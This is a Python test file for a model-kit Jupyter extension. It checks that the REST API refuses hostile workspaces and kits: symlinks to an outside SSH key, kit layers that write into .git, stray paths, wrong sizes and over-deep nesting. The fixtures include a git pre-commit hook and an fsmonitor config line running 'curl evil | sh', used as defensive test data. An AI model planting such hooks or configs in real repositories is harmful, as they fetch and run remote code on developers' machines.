"""Hostile workspaces and kits through the REST API, authentication on (issue 14, docs/hardening.md
"Paths and symlinks" and "What a kit may write"): the refusal is a clear 4xx or a failed job, and no
answer, job record or log line carries the content of a file outside the workspace."""

from __future__ import annotations

import asyncio
import json
import logging
from pathlib import Path

import pytest
import tornado.httpclient

from kitlab.modelkit.store import LocalStore
from tests.support.hostile import (
    CODE_TAR,
    DOCS_TAR,
    KEY,
    MODEL_TAR,
    SECRET,
    entry,
    make_tar,
    put_deep_config_kit,
    put_kit,
)

KITFILE = "manifestVersion: 1.0.0\nmodel:\n  path: w.bin\n"


@pytest.fixture
def outside_key(jp_root_dir: Path) -> Path:
    ssh = jp_root_dir.parent / "outside-home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "id_rsa").write_text(KEY)
    return ssh / "id_rsa"


@pytest.fixture
def store(kitops_home: Path) -> LocalStore:
    return LocalStore(kitops_home)


async def call(jp_fetch, *parts, method="GET", body=None, **kwargs):
    payload = None if body is None else json.dumps(body)
    try:
        response = await jp_fetch("kitlab", *parts, method=method, body=payload, **kwargs)
    except tornado.httpclient.HTTPClientError as exc:
        return exc.code, exc.response.body.decode()
    return response.code, response.body.decode()


async def run_job(jp_fetch, kind, params):
    code, body = await call(jp_fetch, "jobs", method="POST", body={"kind": kind, "params": params})
    if code != 202:
        return code, body
    job_id = json.loads(body)["id"]
    for _ in range(600):
        _, body = await call(jp_fetch, "jobs", job_id)
        if json.loads(body)["state"] in ("succeeded", "failed", "cancelled"):
            return 200, body
        await asyncio.sleep(0.05)
    raise AssertionError(f"job {job_id} did not finish")


def assert_secret_free(*texts: str) -> None:
    for text in texts:
        assert SECRET not in text
        assert "PRIVATE KEY" not in text


@pytest.mark.parametrize("link", ["Kitfile", ".kitignore"])
async def test_a_workspace_file_linked_outside_is_refused_everywhere(
    jp_fetch, jp_root_dir, outside_key, caplog, link
):
    caplog.set_level(logging.DEBUG)
    project = jp_root_dir / "project"
    project.mkdir()
    (project / "w.bin").write_bytes(b"weights")
    if link == ".kitignore":
        (project / "Kitfile").write_text(KITFILE)
    (project / link).symlink_to(outside_key)

    answers = []
    for parts, method, body in [
        (("kitfile",), "GET", None),
        (("plan",), "GET", None),
        (
            ("kitfile", "validate"),
            "POST",
            {"kitfile": {"manifestVersion": "1.0.0", "model": {"path": "w.bin"}}},
        ),
    ]:
        code, text = await call(jp_fetch, *parts, method=method, body=body, params={"path": "project"})
        answers.append(text)
        if link == "Kitfile" or parts == ("plan",):
            assert 400 <= code < 500, (parts, code, text)
            assert "symbolic link" in text
        else:  # the Kitfile itself is fine; the link shows as a problem, never as its content
            assert code == 200, (parts, code, text)
    code, job = await run_job(jp_fetch, "pack", {"path": "project", "reference": "leak:v1"})
    answers.append(job)
    assert code == 400 or json.loads(job)["state"] == "failed", job
    assert "symbolic link" in job
    assert_secret_free(*answers, caplog.text)
    assert outside_key.read_text() == KEY


async def test_unpack_job_never_writes_into_git_and_reports_it(jp_fetch, jp_root_dir, store):
    layer = make_tar(
        [
            ("train.py", b"print('train')\n"),
            (".git", None),
            (".git/hooks", None),
            (".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n"),
            (".git/config", b"[core]\n\tfsmonitor = curl evil | sh\n"),
        ]
    )
    put_kit(store, "git", {"code": [entry(".", layer)]}, [(CODE_TAR, layer)])
    repo = jp_root_dir / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n")
    _, body = await run_job(
        jp_fetch, "unpack", {"reference": "hostile:git", "path": "repo", "overwrite": True}
    )
    job = json.loads(body)
    assert job["state"] == "succeeded", job
    assert sorted(job["result"]["refused"]) == [".git", ".git/config", ".git/hooks", ".git/hooks/pre-commit"]
    assert any(".git/hooks/pre-commit" in line for line in job["log"])
    assert (repo / ".git" / "config").read_text() == "[core]\n"
    assert list((repo / ".git" / "hooks").iterdir()) == []
    assert (repo / "train.py").read_text() == "print('train')\n"


async def test_unpack_job_of_a_layer_writing_elsewhere_fails_and_writes_nothing(jp_fetch, jp_root_dir, store):
    docs = make_tar([("README.md", b"# fine\n")])
    model = make_tar([("w.bin", b"w"), ("notebook.ipynb", b"{}")])
    entries = {"model": entry("w.bin", model), "docs": [entry("README.md", docs)]}
    put_kit(store, "stray", entries, [(DOCS_TAR, docs), (MODEL_TAR, model)])
    _, body = await run_job(jp_fetch, "unpack", {"reference": "hostile:stray", "path": "copy"})
    job = json.loads(body)
    assert job["state"] == "failed"
    assert "outside that path" in job["error"]["message"]
    assert not (jp_root_dir / "copy").exists()


async def test_unpack_job_refuses_wrong_declared_sizes_and_leaves_nothing(jp_fetch, jp_root_dir, store):
    model = make_tar([("w.bin", b"w" * 100)])
    put_kit(store, "size", {"model": entry("w.bin", model)}, [(MODEL_TAR, model)], sizes=[len(model) - 512])
    _, body = await run_job(jp_fetch, "unpack", {"reference": "hostile:size", "path": "copy"})
    job = json.loads(body)
    assert job["state"] == "failed"
    assert "declares" in job["error"]["message"]
    assert not (jp_root_dir / "copy").exists()


async def test_one_deeply_nested_kit_does_not_hide_the_store(jp_fetch, store):
    layer = make_tar([("w.bin", b"w")])
    put_kit(store, "good", {"model": entry("w.bin", layer)}, [(MODEL_TAR, layer)])
    put_deep_config_kit(store, "localhost/deep")
    code, body = await call(jp_fetch, "kits")
    assert code == 200, body
    kits = {k["display"]: k for k in json.loads(body)["kits"]}
    assert kits["hostile"]["tags"] == ["good"]
    assert kits["hostile"]["error"] == ""
    assert "nests deeper than" in kits["deep"]["error"]
    code, body = await call(jp_fetch, "kits", "deep:v1")
    assert code == 400
    assert "nests deeper" in body
